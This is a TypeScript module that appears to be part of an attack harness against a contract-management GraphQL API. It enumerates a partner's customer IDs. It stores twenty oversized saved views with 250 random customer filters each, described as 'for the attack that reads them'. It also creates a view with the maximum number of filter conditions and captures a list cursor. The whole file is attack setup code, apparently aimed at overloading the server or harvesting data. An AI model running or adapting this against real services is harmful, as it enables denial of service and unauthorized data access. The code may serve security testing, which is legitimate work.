import { randomUUID } from 'node:crypto';
import { emptyFilter } from './attack.lists.ts';
import { json } from './attack.operations.ts';
import { headersOf } from './page-target.ts';

const columns = ['CUSTOMER_NAME', 'COMMUNICATION_OWNER', 'CONTRACT_TYPE', 'STATUS', 'RENEWAL_DEADLINE'];
const mostLists = 16;

/** Customers of the key's partner. */
export async function customerIdsOf(url: string, token: string): Promise<string[]> {
  const ids: string[] = [];
  for (let after: string | null = null; ids.length < 19 * 250;) {
    const body = json('query ($after: String) { customers(first: 100, after: $after) { nodes { id } pageInfo { endCursor } } }', { after });
    const answer = await fetch(`${url}/graphql`, { method: 'POST', headers: headersOf(token), body });
    const { data } = (await answer.json()) as { data: { customers: { nodes: { id: string }[]; pageInfo: { endCursor: string | null } } } };
    ids.push(...data.customers.nodes.map(({ id }) => id));
    after = data.customers.pageInfo.endCursor;
    if (after === null || data.customers.nodes.length === 0) break;
  }
  return ids;
}

/** Stores views that are as large as the server takes, for the attack that reads them. */
export async function storeViews(url: string, token: string): Promise<number> {
  const filter = { customerId: { in: Array.from({ length: 250 }, () => `cus_${randomUUID()}`) } };
  let stored = 0;
  for (let index = 0; index < 20; index += 1) {
    const body = json(
      'mutation ($input: CreateSavedViewInput!) { createSavedView(input: $input) { savedView { id } userErrors { message } } }',
      { input: { name: `View ${index}`, columns, filter } },
    );
    const answer = (await (await fetch(`${url}/graphql`, { method: 'POST', headers: headersOf(token), body })).json()) as {
      data?: { createSavedView: { savedView: object | null; userErrors: object[] } | null };
      errors?: object[];
    };
    if (answer.data?.createSavedView?.savedView) stored += 1;
    else if (index === 0) console.log(JSON.stringify(answer).slice(0, 300));
  }
  return stored;
}

/** A view of as many conditions as one can have, and the position of the last change of the list, for lists that begin there. */
export async function listPlaces(url: string, token: string): Promise<{ viewId: string; cursor: string }> {
  const body = json(
    `mutation ($input: CreateSavedViewInput!) { createSavedView(input: $input) { savedView { id } userErrors { message }
      query { upcomingContractChanges(last: 1, orderBy: [{ field: EFFECTIVE_DATE, direction: DESC }]) { edges { cursor } } } } }`,
    { input: { name: 'Many conditions', columns, filter: emptyFilter(mostLists) } },
  );
  const answer = await fetch(`${url}/graphql`, { method: 'POST', headers: headersOf(token), body });
  const { data } = (await answer.json()) as {
    data: { createSavedView: { savedView: { id: string }; query: { upcomingContractChanges: { edges: { cursor: string }[] } } } };
  };
  const { savedView, query } = data.createSavedView;
  return { viewId: savedView.id, cursor: query.upcomingContractChanges.edges[0]!.cursor };
}
